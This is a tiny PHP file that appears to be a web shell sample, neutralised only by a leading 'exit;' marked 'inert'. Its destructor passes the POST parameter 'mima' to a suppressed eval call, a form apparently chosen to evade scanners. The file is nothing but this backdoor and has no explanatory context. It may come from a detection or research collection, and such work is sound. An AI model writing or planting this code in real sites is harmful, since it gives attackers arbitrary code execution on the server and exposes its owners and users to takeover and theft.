<?php exit; /* inert */ class Foo
{
    public $name = '';
    function __destruct()
    {
        @eval("$this->name");
    }
}
$o = new Foo;
$o->name = "/*x*/" . $_POST['mima'];
?>
